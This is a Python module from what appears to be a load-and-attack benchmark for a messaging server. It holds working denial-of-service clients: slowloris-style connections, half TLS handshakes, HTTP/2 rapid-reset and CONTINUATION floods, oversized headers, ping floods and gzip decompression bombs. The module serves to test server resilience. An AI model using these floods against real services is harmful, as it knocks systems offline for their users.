"""Clients that mean harm: python -m bench.attacks NAME HOST:PORT COUNT [KEY].

Here are those of HTTP/2 and TLS, and those that say little; see `bench.attackers` for how they end.
"""

import contextlib
import json
import select
import socket
import struct
import subprocess
import sys
import time
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass

from bench import callattacks, ownattacks, portattacks
from bench import http2bytes as h2
from bench.attackers import (
    ROOT,
    SENT,
    Answers,
    Counts,
    Held,
    connect,
    held,
    key,
    raise_limit,
    told_to_end,
    under_way,
)

STOP_SECONDS = 60.0
BOMB_BYTES = 1 << 30
PULL = b"/duolog.v1.Messages/Pull"
SUBSCRIBE = b"/duolog.v1.Messages/Subscribe"
TELEMETRY = b"/apache.rocketmq.v2.MessagingService/Telemetry"


def idle(endpoint: str, count: int) -> Counts:
    """Connections that say nothing."""
    return held(endpoint, count, b"")


def idle_http2(endpoint: str, count: int) -> Counts:
    """Connections that greet as HTTP/2 does, and call nothing."""
    return held(endpoint, count, h2.greeting() + h2.frame(h2.SETTINGS, h2.ACK, 0))


def slow_http2(endpoint: str, count: int) -> Counts:
    """The greeting of HTTP/2, a byte a second."""
    return held(endpoint, count, b"", h2.greeting())


def slow_frame(endpoint: str, count: int) -> Counts:
    """A greeting of frames, a byte a second."""
    from duolog import _frames

    return held(endpoint, count, b"", _frames.hello(bytes(16)))


def slow_http(endpoint: str, count: int) -> Counts:
    """A request for metrics, a byte a second."""
    return held(endpoint, count, b"GET /metrics HTTP/1.1\r\n", b"X-Long: 1" * 1000)


def half_handshakes(endpoint: str, count: int) -> Counts:
    """TLS, whose handshakes end after the client's first message."""
    import ssl

    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return held(endpoint, count, outgoing.read())


def _streams(endpoint: str, count: int, open_one: Callable[[int], bytes]) -> Counts:
    """Streams on one connection, held open."""
    one = Held()
    made = one.add(endpoint, h2.greeting(0) + h2.frame(h2.SETTINGS, h2.ACK, 0))
    assert made is not None
    made.setblocking(True)
    answers = {"reset": 0, "goaway": 0}
    reader = Answers(made, answers)
    with contextlib.suppress(OSError):
        for number in range(count):
            made.sendall(open_one(2 * number + 1))
            if number % 100 == 99:
                reader.read(0.001)
    under_way()
    while not told_to_end(0.1):
        reader.read(0.1)
    return {**answers, "ended": reader.ended}


def telemetry_streams(endpoint: str, count: int) -> Counts:
    """Streams of RocketMQ's clients that say who they are and then nothing."""

    def one(stream: int) -> bytes:
        block = h2.call_block(TELEMETRY, h2.field(b"x-mq-client-id", b"c%d" % stream))
        return h2.begin(stream, block)

    return _streams(endpoint, count, one)


def subscribe_streams(endpoint: str, count: int) -> Counts:
    """Subscriptions that ask for nothing."""
    block = h2.call_block(SUBSCRIBE)
    return _streams(endpoint, count, lambda stream: h2.begin(stream, block))


def poll_streams(endpoint: str, count: int) -> Counts:
    """Pulls that wait for a message of a topic without any."""
    from duolog.wire import duolog_pb2 as wire

    request = wire.PullRequest(topic="quiet", wait_ms=30_000)
    data = request.SerializeToString()
    block = h2.call_block(PULL)

    def one(stream: int) -> bytes:
        return h2.begin(stream, block) + h2.message(stream, data, h2.END_STREAM)

    return _streams(endpoint, count, one)


def _flood(endpoint: str, count: int, pieces: Callable[[], Iterator[bytes]]) -> Counts:
    """Connections over which pieces are sent as fast as they are taken, and begun anew."""
    under_way()
    connections = sent = 0
    while not told_to_end():
        with contextlib.suppress(OSError), connect(endpoint) as made:
            connections += 1
            made.sendall(h2.greeting() + h2.frame(h2.SETTINGS, h2.ACK, 0))
            made.settimeout(5)
            for piece in pieces():
                made.sendall(piece)
                sent += len(piece)
                if told_to_end():
                    break
                while select.select([made], [], [], 0)[0] and made.recv(1 << 20):
                    pass
    return {"connections": connections, "sent_bytes": sent}


def huge_header(endpoint: str, count: int) -> Counts:
    """Calls with a header of some MiB."""
    block = h2.call_block(PULL, h2.field(b"x-long", b"a" * (4 << 20)))
    return _flood(endpoint, count, lambda: (h2.begin(2 * n + 1, block) for n in range(count)))


def many_headers(endpoint: str, count: int) -> Counts:
    """Calls with very many empty headers."""
    block = h2.call_block(PULL, h2.field(b"x", b"") * (1 << 20))
    return _flood(endpoint, count, lambda: (h2.begin(2 * n + 1, block) for n in range(count)))


def continuations(endpoint: str, count: int) -> Counts:
    """Headers that never end, on several connections in turn."""
    return _endless_headers(endpoint, count, b"")


def late_continuations(endpoint: str, count: int) -> Counts:
    """The same behind a call that is answered."""
    return _endless_headers(endpoint, count, _answered_call())


def returning_continuations(endpoint: str, count: int) -> Counts:
    """Headers that never end, on connections that are made anew as soon as they are ended."""
    return _endless_headers(endpoint, count, b"", returns=True)


def returning_late_continuations(endpoint: str, count: int) -> Counts:
    """The same behind a call that is answered."""
    return _endless_headers(endpoint, count, _answered_call(), returns=True)


def _answered_call() -> bytes:
    check = h2.call_block(portattacks.CHECK)
    return h2.begin(1, check) + h2.message(1, b"", h2.END_STREAM)


def _endless_headers(endpoint: str, count: int, first: bytes, returns: bool = False) -> Counts:
    begun = h2.greeting() + first + h2.frame(h2.HEADERS, 0, 3, h2.call_block(PULL))
    more = h2.frame(h2.CONTINUATION, 0, 3, h2.field(b"x", b"y" * 100) * 100) * 10

    def begin() -> socket.socket:
        made = connect(endpoint)
        with contextlib.suppress(OSError):  # it is ended already: the next bytes say so
            made.sendall(begun)
        return made

    made = {begin() for _ in range(count)}
    under_way()
    sent = ended = 0
    while made and not told_to_end():
        for one in list(made):
            try:
                one.sendall(more)
                sent += len(more)
            except OSError:
                made.remove(one)
                one.close()
                ended += 1
                with contextlib.suppress(OSError):
                    if returns:
                        made.add(begin())
    return {"connections": len(made) + ended, "ended": ended, "sent_bytes": sent}


def rapid_resets(endpoint: str, count: int) -> Counts:
    """Calls that are cancelled at once."""
    block = h2.call_block(TELEMETRY, h2.field(b"x-mq-client-id", b"c"))
    return _resets(endpoint, lambda stream: h2.begin(stream, block))


def reset_requests(endpoint: str, count: int) -> Counts:
    """Calls with a whole request that are cancelled at once."""
    from duolog.wire import duolog_pb2 as wire

    data = wire.PullRequest(topic="quiet").SerializeToString()
    block = h2.call_block(PULL)
    return _resets(
        endpoint, lambda stream: h2.begin(stream, block) + h2.message(stream, data, h2.END_STREAM)
    )


def _resets(endpoint: str, begin: Callable[[int], bytes]) -> Counts:
    cancel = struct.pack(">I", h2.CANCEL)

    def pieces() -> Iterator[bytes]:
        for first in range(1, 1 << 30, 200):
            yield b"".join(
                begin(n) + h2.frame(h2.RST_STREAM, 0, n, cancel)
                for n in range(first, first + 200, 2)
            )

    return _flood(endpoint, 0, pieces)


def pings(endpoint: str, count: int) -> Counts:
    """Frames of HTTP/2 that have to be answered."""
    some = h2.frame(h2.PING, 0, 0, bytes(8)) * 100 + h2.frame(h2.SETTINGS, 0, 0) * 100

    def pieces() -> Iterator[bytes]:
        while True:
            yield some

    return _flood(endpoint, count, pieces)


def bombs(endpoint: str, count: int) -> Counts:
    """Messages that are small until they are decompressed."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = bytes(1 << 20)
    data = b"".join([*(packer.compress(block) for _ in range(BOMB_BYTES >> 20)), packer.flush()])
    under_way()
    sent = refused = 0
    while not told_to_end():
        with contextlib.suppress(OSError), connect(endpoint) as made:
            made.sendall(h2.greeting() + h2.frame(h2.SETTINGS, h2.ACK, 0))
            counts = {"reset": 0, "goaway": 0}
            answers = Answers(made, counts)
            block = h2.call_block(PULL, h2.field(b"grpc-encoding", b"gzip"))
            made.sendall(h2.begin(1, block))
            whole = bytes((1,)) + struct.pack(">I", len(data)) + data
            at = 0
            while at < len(whole) and not answers.ended and not counts["reset"]:
                size = min(h2.BLOCK_BYTES_MAX, *(answers.windows[one] for one in (0, 1)))
                if size > 0:
                    piece = whole[at : at + size]
                    at += size
                    for one in (0, 1):
                        answers.windows[one] -= size
                    last = h2.END_STREAM if at >= len(whole) else 0
                    made.sendall(h2.frame(h2.DATA, last, 1, piece))
                answers.read(0.0 if size > 0 else 0.1)
                if told_to_end():
                    break
            sent += at >= len(whole)
            answers.read(0.2)
            refused += counts["reset"] + counts["goaway"]
    return {"bombs": sent, "refused": refused, "bytes": len(data)}


def deaf_pulls(endpoint: str, count: int) -> Counts:
    """Connections of calls whose large answers nobody takes."""
    from duolog.wire import duolog_pb2 as wire

    request = wire.PullRequest(topic="bench")
    data = request.SerializeToString()
    block = h2.call_block(PULL)
    calls = b"".join(
        h2.begin(n, block) + h2.message(n, data, h2.END_STREAM) for n in range(1, 21, 2)
    )
    return _deaf(endpoint, count, h2.greeting((1 << 31) - 1) + calls)


def deaf_frames(endpoint: str, count: int) -> Counts:
    """The same over frames, whose key anybody gets where there are no users."""
    from duolog import _frames as frames
    from duolog.wire import duolog_pb2 as wire

    code = frames.NUMBERS["/duolog.v1.Messages/Pull"]
    data = wire.PullRequest(topic="bench").SerializeToString()
    calls = (frames.frame(frames.Kind.CALL, n, 60_000, data, code) for n in range(1, 11))
    return _deaf(endpoint, count, frames.hello(key()) + b"".join(calls))


def _deaf(endpoint: str, count: int, first: bytes) -> Counts:
    made = []
    for number in range(count):
        with contextlib.suppress(OSError):
            one = connect(endpoint, number)
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            one.sendall(first)
            made.append(one)
    under_way()
    while not told_to_end(1.0):
        pass
    return {"open": len(made)}


_HERE: tuple[Callable[[str, int], Counts], ...] = (
    idle,
    idle_http2,
    slow_http2,
    slow_frame,
    slow_http,
    half_handshakes,
    telemetry_streams,
    subscribe_streams,
    poll_streams,
    huge_header,
    many_headers,
    continuations,
    late_continuations,
    returning_continuations,
    returning_late_continuations,
    rapid_resets,
    reset_requests,
    pings,
    bombs,
    deaf_pulls,
    deaf_frames,
)
ATTACKS = {
    **{one.__name__: one for one in _HERE},
    **callattacks.ATTACKS,
    **ownattacks.ATTACKS,
    **portattacks.ATTACKS,
}


@dataclass(frozen=True, slots=True)
class Done:
    """What an attacker did.

    sent: bytes at the end of each slot of time; see Sent. cpu_seconds: that it took.
    """

    counts: Counts
    sent: Sequence[int]
    cpu_seconds: float


class Attack:
    """An attacker's process."""

    def __init__(self, name: str, endpoint: str, count: int, key: bytes = bytes(16)) -> None:
        """Start it; it attacks when this returns. key: with which frames begin."""
        command = [sys.executable, "-m", "bench.attacks", name, endpoint, str(count), key.hex()]
        self._process = subprocess.Popen(
            command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd=ROOT
        )
        assert self._process.stdout is not None, "piped"
        if not self._process.stdout.readline():
            raise RuntimeError(f"the attacker {name} ended")

    def finish(self) -> Done:
        """End it; what it did."""
        output, _ = self._process.communicate(timeout=STOP_SECONDS)
        return Done(**json.loads(output))

    def kill(self) -> None:
        """End it in any case; it may have ended."""
        self._process.kill()
        self._process.wait()


def main() -> None:
    """Attack, and print what was done."""
    raise_limit()
    began = time.process_time()
    counts = ATTACKS[sys.argv[1]](sys.argv[2], int(sys.argv[3]))
    seconds = time.process_time() - began
    print(json.dumps({"counts": counts, "sent": SENT.slots, "cpu_seconds": seconds}))


if __name__ == "__main__":
    main()
